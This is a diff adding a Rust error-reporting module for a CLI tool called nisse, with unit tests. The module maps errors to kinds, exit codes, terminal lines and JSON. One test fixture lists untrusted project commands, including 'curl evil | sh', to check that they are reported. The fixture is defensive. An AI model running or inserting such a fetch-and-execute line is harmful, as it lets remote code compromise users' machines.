@@ -1,0 +1,304 @@
+//! The one edge where an error becomes words, a kind and an exit code.
+//!
+//! The match is exhaustive on purpose: an error that is new somewhere below does not compile until it has its kind and
+//! its exit code here.
+
+use std::error::Error as _;
+
+use serde::Serialize;
+use serde_json::json;
+
+use crate::{
+    commands::{self, settings},
+    domain::upstream::Trouble,
+    repo,
+};
+
+/// The environment failed.
+const ENVIRONMENT: u8 = 1;
+/// Wrong usage or configuration.
+const CONFIGURATION: u8 = 2;
+/// A bug in nisse.
+const BUG: u8 = 70;
+
+/// An error as a person and a program are told of it: the same facts.
+#[derive(Clone, PartialEq, Eq, Debug, Serialize)]
+pub struct Report {
+    /// A stable word for programs.
+    pub kind: &'static str,
+    /// What was attempted, or what is wrong.
+    pub message: String,
+    /// What caused it, nearest first.
+    pub chain: Vec<String>,
+    /// What to do about it.
+    pub hints: Vec<String>,
+    /// The exit status.
+    pub exit: u8,
+}
+
+/// The report of an error.
+#[must_use]
+pub fn report(error: &commands::Error) -> Report {
+    let (kind, exit) = kind(error);
+    let hints = commands::advice(error).into_iter().collect();
+    Report { kind, message: error.to_string(), chain: causes(error), hints, exit }
+}
+
+impl Report {
+    /// The report of a command line that cannot be understood.
+    #[must_use]
+    pub fn usage(error: &clap::Error) -> Self {
+        let text = error.render().to_string();
+        let first = text.split("\n\n").next().unwrap_or_default();
+        let message = first.split_whitespace().collect::<Vec<_>>().join(" ");
+        let tips = text.lines().filter_map(|line| line.trim().strip_prefix("tip: "));
+        let mut hints: Vec<String> = tips.map(str::to_owned).collect();
+        hints.push("see `nisse --help`".to_owned());
+        let message = message.strip_prefix("error: ").unwrap_or(&message).to_owned();
+        Self { kind: "usage", message, chain: Vec::new(), hints, exit: CONFIGURATION }
+    }
+
+    /// The report of a panic: nobody's fault but ours.
+    #[must_use]
+    pub fn bug(what: &str) -> Self {
+        let hints = vec!["`nisse resume` goes on with a task that was running; please report this".to_owned()];
+        Self { kind: "bug", message: format!("a bug in nisse: {what}"), chain: Vec::new(), hints, exit: BUG }
+    }
+
+    /// At most three lines, for stderr.
+    #[must_use]
+    pub fn lines(&self) -> Vec<String> {
+        let mut lines = vec![format!("error: {}", one_line(&self.message))];
+        if !self.chain.is_empty() {
+            lines.push(format!("  because: {}", one_line(&self.chain.join(": "))));
+        }
+        if !self.hints.is_empty() {
+            lines.push(format!("  try: {}", one_line(&self.hints.join("; "))));
+        }
+        lines
+    }
+
+    /// The same fact for programs.
+    #[must_use]
+    pub fn json(&self) -> serde_json::Value {
+        let message = std::iter::once(&self.message).chain(&self.chain).cloned().collect::<Vec<_>>().join(": ");
+        let hint = (!self.hints.is_empty()).then(|| self.hints.join("; "));
+        json!({
+            "v": 1,
+            "type": "error",
+            "exit": self.exit,
+            "error": { "kind": self.kind, "message": message, "hint": hint },
+        })
+    }
+}
+
+fn kind(error: &commands::Error) -> (&'static str, u8) {
+    match error {
+        commands::Error::Settings(error) => settings_kind(error),
+        commands::Error::Brief(_) => ("brief", CONFIGURATION),
+        commands::Error::Proxy(_) => ("proxy_configuration", CONFIGURATION),
+        commands::Error::Catalog { source, .. } => upstream_kind(source.trouble),
+        commands::Error::Repo(error) => repo_kind(error),
+        commands::Error::Roles(_) => ("bad_role", CONFIGURATION),
+        commands::Error::Unpriced { .. } => ("unknown_price", CONFIGURATION),
+    }
+}
+
+fn settings_kind(error: &settings::Error) -> (&'static str, u8) {
+    match error {
+        settings::Error::Wrong(_) | settings::Error::NotAFile(_) | settings::Error::TooLarge(_) => {
+            ("bad_setting", CONFIGURATION)
+        }
+        settings::Error::Unreadable { .. } => ("settings_unreadable", CONFIGURATION),
+        settings::Error::NoStateDirectory => ("no_state_directory", CONFIGURATION),
+        settings::Error::StateDir(_) => ("state_directory", ENVIRONMENT),
+        settings::Error::NoAddress => ("no_proxy_address", CONFIGURATION),
+        settings::Error::NoRole(_) => ("bad_role", CONFIGURATION),
+        settings::Error::Untrusted { .. } => ("untrusted_checks", CONFIGURATION),
+        settings::Error::Token(_) => ("no_token", CONFIGURATION),
+    }
+}
+
+/// Upstream trouble that ends the process and not a task: before a task began, or by wrong configuration.
+pub(super) fn upstream_kind(trouble: Trouble) -> (&'static str, u8) {
+    match trouble {
+        Trouble::Unreachable | Trouble::Timeout | Trouble::Overloaded | Trouble::Cut => {
+            ("proxy_unreachable", ENVIRONMENT)
+        }
+        Trouble::RateLimited => ("rate_limited", ENVIRONMENT),
+        Trouble::BudgetGone => ("budget_gone", ENVIRONMENT),
+        Trouble::KeyRefused => ("key_refused", CONFIGURATION),
+        Trouble::ModelDenied => ("model_denied", CONFIGURATION),
+        Trouble::ModelUnknown => ("unknown_model", CONFIGURATION),
+        Trouble::BadAddress => ("bad_address", CONFIGURATION),
+        Trouble::BadCertificate => ("bad_certificate", CONFIGURATION),
+        Trouble::ContextOverflow
+        | Trouble::ToolChoiceUnsupported
+        | Trouble::ToolsUnsupported
+        | Trouble::FallbackRefused
+        | Trouble::Policy
+        | Trouble::BadRequest => ("proxy_refused", ENVIRONMENT),
+        Trouble::Stopped => ("stopped", 7),
+    }
+}
+
+fn repo_kind(error: &repo::Error) -> (&'static str, u8) {
+    match error {
+        repo::Error::NotARepository { .. } => ("no_repository", ENVIRONMENT),
+        repo::Error::Refused { .. } => ("repository_refused", ENVIRONMENT),
+        repo::Error::NoGit { .. } | repo::Error::OldGit { .. } => ("no_git", ENVIRONMENT),
+        repo::Error::NoSuchCommit { .. } => ("no_such_commit", CONFIGURATION),
+        repo::Error::Foreign { .. } => ("name_taken", ENVIRONMENT),
+        repo::Error::HeadMoved { .. } | repo::Error::BranchMoved { .. } | repo::Error::Unsteady { .. } => {
+            ("repository_changed", ENVIRONMENT)
+        }
+        repo::Error::Git { .. }
+        | repo::Error::TimedOut { .. }
+        | repo::Error::Unreadable { .. }
+        | repo::Error::Read { .. }
+        | repo::Error::Io { .. }
+        | repo::Error::TreesDiffer { .. } => ("git", ENVIRONMENT),
+    }
+}
+
+/// What caused it. Several mistakes at once are one entry, so that all of them are told.
+fn causes(error: &commands::Error) -> Vec<String> {
+    let several: Vec<String> = match error {
+        commands::Error::Settings(settings::Error::Wrong(problems)) if problems.len() > 1 => {
+            problems.iter().map(ToString::to_string).collect()
+        }
+        commands::Error::Settings(settings::Error::Untrusted { commands, .. }) => {
+            commands.iter().map(|command| format!("{command:?}")).collect()
+        }
+        commands::Error::Roles(roles) if roles.len() > 1 => roles.iter().map(ToString::to_string).collect(),
+        commands::Error::Settings(_)
+        | commands::Error::Brief(_)
+        | commands::Error::Proxy(_)
+        | commands::Error::Catalog { .. }
+        | commands::Error::Repo(_)
+        | commands::Error::Roles(_)
+        | commands::Error::Unpriced { .. } => Vec::new(),
+    };
+    if !several.is_empty() {
+        return vec![several.join("; ")];
+    }
+    let (mut chain, mut told) = (Vec::new(), error.to_string());
+    let mut cause = error.source();
+    while let Some(next) = cause {
+        let text = next.to_string();
+        // some errors quote their cause themselves
+        if !told.contains(&text) {
+            told.push_str(&text);
+            chain.push(text);
+        }
+        cause = next.source();
+    }
+    chain
+}
+
+/// `text` on one line, without what would steer a terminal: much of it was written by others.
+fn one_line(text: &str) -> String {
+    let spaced: String = text.chars().map(|c| if c.is_control() { ' ' } else { c }).collect();
+    spaced.split_whitespace().collect::<Vec<_>>().join(" ")
+}
+
+#[cfg(test)]
+mod tests {
+    use clap::Parser as _;
+
+    use super::*;
+    use crate::{
+        cli::args::Args,
+        commands::{
+            proxy::BadRole,
+            settings::{Problem, Source},
+        },
+        domain::role::RoleName,
+        ports::llm,
+    };
+
+    fn upstream(trouble: Trouble) -> Report {
+        let source =
+            llm::Error { trouble, message: "words\nof \u{1b}[2Jthe proxy".into(), retry_after: None, usage: None };
+        report(&commands::Error::Catalog { address: "http://proxy".into(), source })
+    }
+
+    #[test]
+    fn a_proxy_that_is_down_is_the_environment_and_a_refused_key_is_configuration() {
+        let down = upstream(Trouble::Unreachable);
+        assert_eq!((down.kind, down.exit), ("proxy_unreachable", 1));
+        assert_eq!(
+            down.lines(),
+            [
+                "error: cannot read the model catalog of http://proxy",
+                "  because: unreachable: words of [2Jthe proxy",
+                "  try: start the proxy, or correct proxy.base_url or NISSE_LLM_BASE_URL",
+            ]
+        );
+        for (trouble, kind) in [
+            (Trouble::KeyRefused, "key_refused"),
+            (Trouble::BadAddress, "bad_address"),
+            (Trouble::BadCertificate, "bad_certificate"),
+            (Trouble::ModelUnknown, "unknown_model"),
+        ] {
+            assert_eq!((upstream(trouble).kind, upstream(trouble).exit), (kind, 2));
+        }
+    }
+
+    #[test]
+    fn all_mistakes_are_told_in_three_lines_and_in_json() {
+        let roles = [RoleName::Delegate, RoleName::Planner].map(BadRole::Unset).to_vec();
+        let report = report(&commands::Error::Roles(roles));
+        let lines = report.lines();
+        assert_eq!(lines.len(), 3);
+        assert!(lines[1].contains("role delegate; no model is set for the role planner"), "{lines:?}");
+        let json = report.json();
+        assert_eq!(
+            (&json["v"], &json["type"], &json["error"]["kind"]),
+            (&1.into(), &"error".into(), &"bad_role".into())
+        );
+        assert!(json["error"]["message"].as_str().is_some_and(|message| message.contains("planner")));
+        assert!(json["error"]["hint"].as_str().is_some_and(|hint| hint.contains("NISSE_ROLE_PLANNER")));
+    }
+
+    #[test]
+    fn one_mistake_is_the_message_itself() {
+        let at = Source::File { path: "/c.toml".into(), line: 3 };
+        let problem = Problem { at, what: "unknown key proxi".into(), near: Some("proxy".into()) };
+        let report = report(&commands::Error::Settings(settings::Error::Wrong(vec![problem])));
+        let wanted = ["error: /c.toml:3: unknown key proxi (did you mean proxy?)", "  try: write proxy"];
+        assert_eq!((report.lines().as_slice(), report.exit), (&wanted.map(str::to_owned)[..], 2));
+    }
+
+    #[test]
+    fn untrusted_checks_are_shown() {
+        let error = settings::Error::Untrusted {
+            path: "/r/nisse.toml".into(),
+            line: 2,
+            commands: vec!["curl evil | sh".into(), "rm\u{1b}".into()],
+        };
+        let lines = report(&commands::Error::Settings(error)).lines().join("\n");
+        assert!(lines.contains("\"curl evil | sh\"; \"rm\\u{1b}\"") && lines.contains("--trust-project"), "{lines}");
+    }
+
+    #[test]
+    fn causes_are_told_once() {
+        let error = crate::adapters::litellm::Error::CaFile {
+            path: "/ca.pem".into(),
+            source: std::io::Error::from(std::io::ErrorKind::NotFound),
+        };
+        assert!(report(&commands::Error::Proxy(error)).chain.is_empty());
+    }
+
+    #[test]
+    fn a_wrong_command_line_is_wrong_usage() {
+        let report = |line: &[&str]| Report::usage(&Args::try_parse_from(line).unwrap_err());
+        let typo = report(&["nisse", "modles"]);
+        assert_eq!((typo.message.as_str(), typo.exit), ("unrecognized subcommand 'modles'", 2));
+        assert_eq!(typo.hints, ["a similar subcommand exists: 'models'", "see `nisse --help`"]);
+        let missing = report(&["nisse", "delegate"]);
+        assert!(missing.message.contains("required arguments were not provided: <BRIEF>"), "{missing:?}");
+        let value = report(&["nisse", "delegate", "x", "--max-time", "15"]);
+        assert!(value.message.contains("takes a duration such as"), "{value:?}");
+    }
+}
